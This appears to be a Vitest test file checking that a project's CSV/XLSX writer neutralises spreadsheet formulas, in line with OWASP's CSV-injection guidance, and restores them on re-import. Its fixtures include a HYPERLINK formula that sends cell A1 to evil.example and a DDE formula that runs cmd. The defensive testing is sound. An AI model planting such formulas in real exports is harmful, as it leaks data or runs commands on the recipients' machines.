import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv, unmarkFormula } from '../src/shared/spreadsheet.js';

// Issue #18 defect 10: every CSV/XLSX cell Ruta writes goes through neutraliseFormula (OWASP,
// CSV injection); reading an upload undoes it, so a fixed failed_rows.csv imports unchanged.

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Fix")',
  '=1+2',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+2',
  '\rcmd',
  "=cmd|' /C calc'!A0",
  '-',
  '+',
  '-5 boxes',
  '+51 987 654 321',
  '- fragile',
];

describe('neutraliseFormula', () => {
  it('prefixes a single quote to text a spreadsheet would evaluate: = + - @ tab CR first', () => {
    for (const f of FORMULAS) expect(neutraliseFormula(f), JSON.stringify(f)).toBe(`'${f}`);
  });

  it('leaves plain numbers (signed, dot or comma) and every other text as it is', () => {
    for (const n of ['-5', '+5', '-12.1211', '-77,03', '+51987654321', '-.5', '0', '12.5']) {
      expect(neutraliseFormula(n), n).toBe(n);
    }
    for (const t of ['Ana', ' =1+2', "'=1+2", 'a=b', 'ORD-1', '', '5-3', 'Row 3 (column Phone): =x']) {
      expect(neutraliseFormula(t), t).toBe(t);
    }
  });
});

describe('unmarkFormula', () => {
  it('drops the marker before a formula character, so a neutralised cell reads back as written', () => {
    for (const f of FORMULAS) expect(unmarkFormula(neutraliseFormula(f))).toBe(f);
    expect(unmarkFormula("'+51987654321")).toBe('+51987654321'); // Excel's own text prefix
  });

  it('keeps an apostrophe that is part of the text', () => {
    for (const t of ["'", "'quoted'", "O'Brien", "'Ana", "''=1"]) expect(unmarkFormula(t), t).toBe(t);
  });
});

describe('toCsv', () => {
  it('neutralises every cell, then quotes where RFC 4180 needs it, with CRLF line ends', () => {
    const out = toCsv([
      ['name', 'phone', 'lat', 'note'],
      ['=HYPERLINK("http://x","y")', '+51987654321', '-12.05', 'a, "b"'],
      ['@SUM(1)', '-2+3', '-5', 'x\ny'],
    ]);
    expect(out).toBe(
      [
        'name,phone,lat,note',
        `"'=HYPERLINK(""http://x"",""y"")",+51987654321,-12.05,"a, ""b"""`,
        `'@SUM(1),'-2+3,-5,"x\ny"`,
        '',
      ].join('\r\n'),
    );
  });
});
